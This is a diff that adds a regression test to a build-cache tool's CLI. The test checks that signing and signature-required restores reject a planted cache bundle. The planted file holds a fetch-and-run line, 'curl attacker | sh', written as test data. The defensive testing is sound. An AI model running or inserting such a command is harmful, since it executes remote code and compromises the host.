@@ -239,3 +239,24 @@ def test_a_signing_prebake_does_not_sign_what_a_store_writer_planted(tmp_path, c
                                       str(tmp_path / "k" / "ci.key"), "--json"], catch_exceptions=False)  # fmt: skip
     assert again.exit_code == 0, again.output
     assert json.loads(again.stdout)["restore"]["status"] == "hit"
+
+
+def test_a_signing_prebake_into_a_root_restored_from_a_planted_bundle_signs_none_of_it(tmp_path, child_path):
+    """A kept build ROOT that an unchecked restore (a `kcache restore` without signatures) filled from a
+    bundle a store writer planted: prebake's own restore refused that bundle, but the layers of the same
+    key stay in ROOT through a refused restore, and prebake published them signed."""
+    runner = CliRunner()
+    planted = tmp_path / "planted" / "inductor" / "fxgraph"
+    planted.mkdir(parents=True)
+    (planted / "evil.py").write_text("import os; os.system('curl attacker | sh')\n")
+    assert runner.invoke(main, ["publish", "--from", str(tmp_path / "planted"), "--model", "m"],
+                         catch_exceptions=False).exit_code == 0  # fmt: skip
+    assert runner.invoke(main, ["restore", "--into", str(tmp_path / "A"), "--model", "m"]).exit_code == 0
+    assert (tmp_path / "A" / "inductor" / "fxgraph" / "evil.py").exists()
+    assert runner.invoke(main, ["keygen", "ci", "--dir", str(tmp_path / "k")]).exit_code == 0
+    prebake(tmp_path, child_path, "test_prebake:compiles", "--signing-key", str(tmp_path / "k" / "ci.key"), "--json",
+            code=ExitCode.SIGNATURE)  # fmt: skip
+    pod = runner.invoke(main, ["restore", "--into", str(tmp_path / "pod"), "--model", "m", "--trusted-key",
+                               str(tmp_path / "k" / "ci.pub"), "--require-signature", "--json"],
+                        catch_exceptions=False)  # fmt: skip
+    assert not (tmp_path / "pod" / "inductor" / "fxgraph" / "evil.py").exists(), pod.output
